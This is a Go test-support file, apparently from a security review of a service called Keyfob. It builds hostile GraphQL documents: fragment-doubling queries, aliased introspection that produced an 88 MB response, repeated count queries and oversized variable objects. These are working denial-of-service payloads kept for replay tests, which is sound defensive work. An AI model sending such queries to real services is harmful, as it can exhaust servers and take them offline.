// Package hostile builds the GraphQL documents a security review used
// against Keyfob, so that every test that replays them sends the same ones.
package hostile

import (
	"fmt"
	"strings"
)

// Doubling is the fragment explosion: F0 selects __typename and each Fi
// spreads F(i-1) twice, so that the query expands to 2^levels fields. At 40
// levels it is 1.7 KB.
func Doubling(levels int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "query { ...F%d }\nfragment F0 on Query { __typename }\n", levels)
	for i := 1; i <= levels; i++ {
		fmt.Fprintf(&b, "fragment F%d on Query { ...F%d ...F%d }\n", i, i-1, i-1)
	}
	return b.String()
}

// AliasedIntrospection aliases introspection at four levels, perLevel
// times each: __schema, types, fields and type. Its response grows with
// the fourth power of perLevel; 14 made 88 MB.
func AliasedIntrospection(perLevel int) string {
	var b strings.Builder
	alias := func(prefix, field, selection string) {
		for i := range perLevel {
			fmt.Fprintf(&b, " %s%d: %s { %s }", prefix, i, field, selection)
		}
	}
	b.WriteString("query {")
	alias("s", "__schema", "...S")
	b.WriteString(" }\nfragment S on __Schema {")
	alias("t", "types", "...T")
	b.WriteString(" }\nfragment T on __Type {")
	alias("f", "fields", "...F")
	b.WriteString(" }\nfragment F on __Field {")
	alias("y", "type", "name")
	b.WriteString(" }\n")
	return b.String()
}

// AliasedCounts asks n times for the key list's totalCount, one COUNT
// query each.
func AliasedCounts(n int) string {
	var b strings.Builder
	b.WriteString("{")
	for i := range n {
		fmt.Fprintf(&b, " c%d: apiKeys(first: 1) { totalCount }", i)
	}
	return b.String() + " }"
}

// Variables is a variables object of size bytes of JSON (at least 8) that
// no operation declares: {"v":[{},{},…]}. Decoded, each {} is a map.
func Variables(size int) string {
	n := max(0, (size-len(`{"v":[]}`)+1)/3)
	v := `{"v":[` + strings.TrimSuffix(strings.Repeat("{},", n), ",") + `]`
	return v + strings.Repeat(" ", max(0, size-len(v)-1)) + "}"
}
